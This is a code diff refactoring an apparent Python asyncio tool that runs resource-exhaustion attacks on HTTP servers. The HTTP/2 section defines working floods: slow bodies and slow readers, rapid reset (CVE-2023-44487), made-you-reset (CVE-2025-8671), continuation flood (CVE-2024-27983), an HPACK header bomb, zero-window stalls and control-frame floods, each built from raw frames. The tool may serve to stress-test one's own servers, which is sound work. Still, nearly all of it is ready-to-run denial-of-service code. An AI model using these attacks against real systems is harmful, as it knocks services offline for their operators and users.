@@ -131,11 +131,9 @@ class Connection:
     async def drain(self):
         """Reads until the other side closes."""
         while True:
-            self.note(await self.read())
-
-    def note(self, data):
-        if data.startswith(b"HTTP/1.1 ") and data[9:12].isdigit():
-            self.counts["status " + data[9:12].decode()] += 1
+            data = await self.read()
+            if data.startswith(b"HTTP/1.1 ") and data[9:12].isdigit():
+                self.counts["status " + data[9:12].decode()] += 1
 
     async def trickle(self, piece, seconds):
         """Sends a piece at intervals, and reads, until the other side closes."""
@@ -151,14 +149,13 @@ class Connection:
 
     async def never_read(self):
         """Waits until the other side closes, and reads nothing."""
-        while True:
-            await asyncio.sleep(1)
-            try:
-                if self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
-                    raise Closed()
+        try:
+            while not self.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                 self.socket.getpeername()
-            except OSError as failure:
-                raise Closed() from failure
+                await asyncio.sleep(1)
+        except OSError as failure:
+            raise Closed() from failure
+        raise Closed()
 
 
 async def again(counts, number, once):
@@ -236,140 +233,108 @@ sends("many-trailers", 50, b"", lambda c: c.trickle(CHUNKED + b"1\r\nb\r\n0\r\n"
 # HTTP/2.
 
 
-def http2(number, *first_settings, read=True, receive_buffer=None):
-    """Makes an attack of a coroutine, like `connections`. The connections have sent their preface, and are read from at the same time."""
+def http2(name, number, sent, *first_settings, read=True, receive_buffer=None):
+    """
+    Adds an attack by connections that have sent their preface and are read from, if not otherwise said, until they are closed. At the same
+    time, each sends the bytes that `sent` returns, and pauses for the seconds between them.
+    """
 
-    def attack_of(act):
-        @connections(number, receive_buffer=receive_buffer)
-        @functools.wraps(act)
-        async def attack(c):
-            await c.send(PREFACE + settings(*first_settings) + frame(SETTINGS, ACK, 0))
-            reading = asyncio.ensure_future(c.drain() if read else c.never_read())
-            acting = asyncio.ensure_future(act(c))
-            try:
-                done, _ = await asyncio.wait({reading, acting}, return_when=asyncio.FIRST_COMPLETED)
-                for task in done:
-                    await task
-                await reading
-            finally:
-                reading.cancel()
-                acting.cancel()
+    async def act(c):
+        for each in sent():
+            await (c.send(each) if isinstance(each, bytes) else asyncio.sleep(each))
 
-        return attack
+    async def on_one(c):
+        await c.send(PREFACE + settings(*first_settings) + frame(SETTINGS, ACK, 0))
+        reading, acting = asyncio.ensure_future(c.drain() if read else c.never_read()), asyncio.ensure_future(act(c))
+        try:
+            done, _ = await asyncio.wait({reading, acting}, return_when=asyncio.FIRST_COMPLETED)
+            for task in done:
+                await task
+            await reading
+        finally:
+            reading.cancel()
+            acting.cancel()
 
-    return attack_of
+    on_one.__name__ = name
+    connections(number, receive_buffer=receive_buffer)(on_one)
 
 
-async def on_hundred(c, first, seconds, then):
-    """Sends what `first` returns for each of 100 streams, and then at intervals what `then` returns."""
-    await c.send(b"".join(map(first, range(1, 200, 2))))
+def streams(frames, number, first=1):
+    """@return what `frames` returns for each of this number of streams"""
+    return b"".join(map(frames, range(first, first + 2 * number, 2)))
+
+
+def on_hundred(begin, seconds, go_on):
+    """100 streams that begin, and then go on at intervals."""
+    yield streams(begin, 100)
     while True:
-        await asyncio.sleep(seconds)
-        for stream in range(1, 200, 2):
-            await c.send(then(stream))
+        yield seconds
+        yield from map(go_on, range(1, 200, 2))
 
 
-async def on_new(c, number, seconds, frames):
-    """Sends what `frames` returns for each new stream, this number of them at intervals, without end."""
+def on_new(number, seconds, frames):
+    """This number of new streams at intervals, without end."""
     for first in range(1, 1 << 30, 2 * number):
-        await c.send(b"".join(map(frames, range(first, first + 2 * number, 2))))
-        await asyncio.sleep(seconds)
+        yield streams(frames, number, first)
+        yield seconds
+
+
+def endlessly(first, next_one):
+    yield first
+    while True:
+        yield next_one()
+        yield 0.01
 
 
 def begun(stream, method, path, *more, end=0):
     return frame(HEADERS, END_HEADERS | end, stream, head(method, path, *more))
 
 
+def got(path):
+    return lambda stream: begun(stream, "GET", path, end=END_STREAM)
+
+
 def posted(stream):
     return begun(stream, "POST", "/echo")
 
 
-@http2(10)
-async def half_open_http2(c):
-    """10 connections, each with the headers of 1,000 POSTs and no byte of a body."""
-    await c.send(b"".join(map(posted, range(1, 2000, 2))))
-    await asyncio.sleep(1e6)
+def filled(stream):
+    return begun(stream, "POST", "/echo", ("content-length", "10000000")) + frame(DATA, 0, stream, bytes(16_000)) * 4
 
 
-@http2(10)
-async def slow_bodies_http2(c):
-    """10 connections with 100 POSTs each, whose bodies arrive at one byte a second."""
-    await on_hundred(c, posted, 1, lambda stream: frame(DATA, 0, stream, b"x"))
-
-
-@http2(10, (INITIAL_WINDOW_SIZE, 0))
-async def slow_readers_http2(c):
-    """10 connections that request 100 images each, and open each stream's window by one byte every 10 s."""
-    await on_hundred(c, lambda stream: begun(stream, "GET", IMAGE, end=END_STREAM), 10, lambda stream: window_update(stream, 1))
-
-
+NO_WINDOW = INITIAL_WINDOW_SIZE, 0
+CANCEL = struct.pack(">I", 8)
+FILLER = frame(PING, ACK, 0, bytes(8)) * 3800
+TUNNEL = field(":method", "CONNECT") + field(":protocol", "websocket") + b"\x86" + field(":path", "/ws") + field(":authority", "attacked.example")
+BOMB = b"\x40" + text("x-bomb") + text("b" * 3900) + head("GET", "/ping") + b"\xbe" * 4000
+CONTINUED = b"".join(frame(CONTINUATION, 0, 1, b"" if i % 2 else field("x-more", "1")) for i in range(100))
+WITHOUT_EFFECT = [frame(PING, 0, 0, bytes(8)), settings((INITIAL_WINDOW_SIZE, 65_535)), frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
+                  window_update(0, 1), frame(DATA, 0, 1)]
 POSTS_OF_NEXT = itertools.cycle([16, 100])  # The window of a connection is 1 MiB.
 
-
-@http2(300, (INITIAL_WINDOW_SIZE, 0), receive_buffer=4096)
-async def full_windows(c):
-    """300 connections that fill their windows with bodies to be echoed, and read no echo. Every second connection exceeds its windows."""
-    for stream in range(1, 2 * next(POSTS_OF_NEXT), 2):
-        body = frame(DATA, 0, stream, bytes(16_000)) * 4
-        await c.send(begun(stream, "POST", "/echo", ("content-length", "10000000")) + body)
-    await asyncio.sleep(1e6)
-
-
-@http2(10)
-async def small_parts(c):
-    """10 connections with 100 POSTs each. Only 600 of every 64 KiB are body; the rest are frames without effect."""
-    filler = frame(PING, ACK, 0, bytes(8)) * 3800
-    await on_hundred(c, posted, 0.01, lambda stream: frame(DATA, 0, stream, bytes(600)) + filler)
-
-
-@http2(10)
-async def rapid_reset(c):
-    """10 connections that open requests and reset them immediately (CVE-2023-44487)."""
-    cancel = struct.pack(">I", 8)
-    await on_new(c, 100, 0.01, lambda stream: begun(stream, "GET", "/ping", end=END_STREAM) + frame(RST_STREAM, 0, stream, cancel))
-
-
-@http2(10)
-async def made_you_reset(c):
-    """10 connections that make the server reset their requests, with WINDOW_UPDATEs of 0 (CVE-2025-8671)."""
-    await on_new(c, 100, 0.01, lambda stream: posted(stream) + window_update(stream, 0))
-
-
-@http2(10)
-async def tunnel_trailers(c):
-    """10 connections that make the server reset their tunnels, with trailers on an extended CONNECT."""
-    block = (field(":method", "CONNECT") + field(":protocol", "websocket") + b"\x86" + field(":path", "/ws")
-             + field(":authority", "attacked.example"))
-    trailer = field("x-trailer", "1")
-    await on_new(c, 50, 0.01, lambda stream: frame(HEADERS, END_HEADERS, stream, block)
-                 + frame(HEADERS, END_HEADERS | END_STREAM, stream, trailer))
-
-
-@http2(10)
-async def continuation_flood(c):
-    """10 connections with a header block that never ends (CVE-2024-27983 and others)."""
-    await c.send(frame(HEADERS, 0, 1, head("GET", "/ping")))
-    while True:
-        await c.send(b"".join(frame(CONTINUATION, 0, 1, b"" if i % 2 else field("x-more", "1")) for i in range(100)))
-        await asyncio.sleep(0.01)
-
-
-@http2(10)
-async def header_bomb(c):
-    """10 connections with small header blocks that decode to megabytes: they repeat one entry of HPACK's dynamic table."""
-    block = b"\x40" + text("x-bomb") + text("b" * 3900) + head("GET", "/ping") + b"\xbe" * 4000
-    await on_new(c, 1, 0.005, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
-
-
-@http2(10, read=False, receive_buffer=4096)
-async def frame_floods(c):
-    """10 connections that endlessly send PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty DATA, and read nothing."""
-    some = [frame(PING, 0, 0, bytes(8)), settings((INITIAL_WINDOW_SIZE, 65_535)), frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
-            window_update(0, 1), frame(DATA, 0, 1)]
-    await c.send(posted(1))
-    while True:
-        await c.send(random.choice(some) * 500)
-        await asyncio.sleep(0.01)
+# The headers of 1,000 POSTs and no byte of a body.
+http2("half-open-http2", 10, lambda: [streams(posted, 1000)])
+# 100 POSTs, whose bodies arrive at one byte a second.
+http2("slow-bodies-http2", 10, lambda: on_hundred(posted, 1, lambda stream: frame(DATA, 0, stream, b"x")))
+# Requests for 100 images, whose windows are opened by one byte every 10 s.
+http2("slow-readers-http2", 10, lambda: on_hundred(got(IMAGE), 10, lambda stream: window_update(stream, 1)), NO_WINDOW)
+# Windows full of bodies to be echoed, and no echo is read. Every second connection exceeds its windows.
+http2("full-windows", 300, lambda: [streams(filled, next(POSTS_OF_NEXT))], NO_WINDOW, receive_buffer=4096)
+# 100 POSTs. Only 600 of every 64 KiB are body; the rest are frames without effect.
+http2("small-parts", 10, lambda: on_hundred(posted, 0.01, lambda stream: frame(DATA, 0, stream, bytes(600)) + FILLER))
+# Requests that are reset immediately (CVE-2023-44487).
+http2("rapid-reset", 10, lambda: on_new(100, 0.01, lambda stream: got("/ping")(stream) + frame(RST_STREAM, 0, stream, CANCEL)))
+# Requests that the server must reset, because of WINDOW_UPDATEs of 0 (CVE-2025-8671).
+http2("made-you-reset", 10, lambda: on_new(100, 0.01, lambda stream: posted(stream) + window_update(stream, 0)))
+# Tunnels that the server must reset, because of trailers on an extended CONNECT.
+http2("tunnel-trailers", 10, lambda: on_new(50, 0.01, lambda stream: frame(HEADERS, END_HEADERS, stream, TUNNEL) + frame(
+    HEADERS, END_HEADERS | END_STREAM, stream, field("x-trailer", "1"))))
+# A header block that never ends (CVE-2024-27983 and others).
+http2("continuation-flood", 10, lambda: endlessly(frame(HEADERS, 0, 1, head("GET", "/ping")), lambda: CONTINUED))
+# Small header blocks that decode to megabytes: they repeat one entry of HPACK's dynamic table.
+http2("header-bomb", 10, lambda: on_new(1, 0.005, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, BOMB)))
+# PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty DATA without end, and nothing is read.
+http2("frame-floods", 10, lambda: endlessly(posted(1), lambda: random.choice(WITHOUT_EFFECT) * 500), read=False, receive_buffer=4096)
 
 
 # Clients that hold up worker streams, at a rate that no limit forbids.
@@ -386,7 +351,7 @@ async def held_responses(target, counts, rate, size, client):
             while True:
                 opened = [next(numbers) for _ in range(75 - len(live))]
                 live.update(opened)
-                await c.send(b"".join(begun(stream, "GET", FILE, end=END_STREAM) for stream in opened))
+                await c.send(b"".join(map(got(FILE), opened)))
                 second = loop.time() + 1
                 while loop.time() < second:
                     try:
